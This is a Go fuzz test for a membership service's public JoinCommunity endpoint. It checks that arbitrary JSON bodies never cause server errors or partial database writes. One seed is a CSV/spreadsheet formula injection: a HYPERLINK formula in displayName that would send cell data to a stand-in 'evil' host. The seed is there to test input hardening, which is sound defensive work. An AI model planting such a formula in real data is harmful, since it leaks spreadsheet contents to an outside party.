package members

import (
	"bytes"
	"context"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"go.opentelemetry.io/otel/propagation"
	"go.opentelemetry.io/otel/trace/noop"

	"github.com/kinshiphq/kinship/gen/kinship/members/v1/membersv1connect"
	"github.com/kinshiphq/kinship/internal/audit"
	"github.com/kinshiphq/kinship/internal/auth"
	"github.com/kinshiphq/kinship/internal/auth/authtest"
	"github.com/kinshiphq/kinship/internal/db"
	"github.com/kinshiphq/kinship/internal/db/dbtest"
	"github.com/kinshiphq/kinship/internal/outbox"
	"github.com/kinshiphq/kinship/internal/rpc"
	"github.com/kinshiphq/kinship/services/members/api"
	"github.com/kinshiphq/kinship/services/members/store"
)

// FuzzJoinCommunityJSON posts arbitrary bodies to the public JoinCommunity
// as Connect JSON, through the real handler (guard, limits, recovery, the
// store on SQLite). Whatever comes in: never a 5xx; a success is the one
// answer every public join gets; a refusal writes nothing, and a success
// writes a whole join (the member, its two events and its audit entry) or
// at most a whole "already a member" notice.
func FuzzJoinCommunityJSON(f *testing.F) {
	for _, seed := range []string{
		`{"community":"demo","email":"ada@example.org","displayName":"Ada Lovelace","interests":["solar"],"emailConsent":true}`,
		`{"community":"demo","email":"ada@example.org","displayName":"Ada again"}`,
		`{"community":"demo","email":"mallory@example.org","displayName":"=HYPERLINK(\"http://evil\"&A2,\"open\")"}`,
		`{"community":"demo","email":"ref@example.org","displayName":"R","source":{"kind":"SOURCE_KIND_REFERRAL","referrerId":"01900000-0000-7000-8000-000000000000"}}`,
		`{"community":"demo","email":"p@example.org","displayName":"P","profile":{"timeZone":"Mars/Base","location":{"countryCode":"zz"},"availabilityHoursPerMonth":-1}}`,
		`{"community":"other","email":"x@example.org","displayName":"X"}`,
		`{"community":"Demo!","email":"x","displayName":""}`,
		`{"community":"demo","email":"a@example.org","displayName":"\u0000\u202e"}`,
		`{"community":"demo","email":"a@example.org","displayName":"A","source":{"kind":99}}`,
		`{"community": 42}`, `[]`, `{`, ``, `null`, `{"unknown":true}`,
	} {
		f.Add([]byte(seed))
	}
	d := dbtest.Open(f, "sqlite", nil, outbox.Migrations(), audit.Migrations(), store.Migrations())
	st := store.New(d, outbox.New(d, propagation.TraceContext{}))
	if err := st.EnsureCommunities(context.Background(), "demo", "other"); err != nil {
		f.Fatal(err)
	}
	tokens, err := auth.NewTokenVerifier(authtest.Start(f).Config(), http.DefaultClient)
	if err != nil {
		f.Fatal(err)
	}
	logger := slog.New(slog.DiscardHandler)
	log := audit.New(d)
	guard := auth.NewInterceptor(auth.Options{Tokens: tokens, Keys: api.Keys(st, log), Policy: api.Policy(), Logger: logger,
		Limits: auth.Limits{PerIP: 1e9, PerToken: 1e9, Burst: 1 << 30}})
	mux := http.NewServeMux()
	for _, r := range routes(st, log, logger, nil, rpc.HandlerOptions(noop.NewTracerProvider(), logger, guard)) {
		mux.Handle(r.pattern, r.handler)
	}

	f.Fuzz(func(t *testing.T, body []byte) {
		before := counts(t, d)
		req := httptest.NewRequest(http.MethodPost, membersv1connect.MembersServiceJoinCommunityProcedure, bytes.NewReader(body))
		req.Header.Set("Content-Type", "application/json")
		rec := httptest.NewRecorder()
		mux.ServeHTTP(rec, req)
		after := counts(t, d)
		out, _ := io.ReadAll(rec.Body)
		grew := func(i int) int { return after[i] - before[i] }
		switch {
		case rec.Code >= 500:
			t.Fatalf("%s: %d %s", body, rec.Code, out)
		case rec.Code != http.StatusOK:
			if !strings.Contains(string(out), `"code"`) {
				t.Errorf("%s: refusal %d without a Connect error: %s", body, rec.Code, out)
			}
			if after != before {
				t.Errorf("%s: refused (%d %s) but wrote %v → %v", body, rec.Code, out, before, after)
			}
		case string(out) != `{"confirmationSent":true}`:
			t.Errorf("%s: public join answered %s", body, out)
		case grew(0) == 1:
			if grew(1) != 2 || grew(2) != 1 {
				t.Errorf("%s: a join wrote %v → %v; want one member, two events, one audit entry", body, before, after)
			}
		case grew(0) != 0 || grew(1) > 1 || grew(1) != grew(2):
			t.Errorf("%s: a repeated join wrote %v → %v; want nothing, or one notice with its audit entry", body, before, after)
		}
	})
}

// counts are the members, outbox events and audit entries stored.
func counts(t *testing.T, d *db.DB) [3]int {
	t.Helper()
	var out [3]int
	for i, table := range []string{"members", "outbox", "audit_log"} {
		if err := d.QueryRow("SELECT count(*) FROM " + table).Scan(&out[i]); err != nil {
			t.Fatal(err)
		}
	}
	return out
}
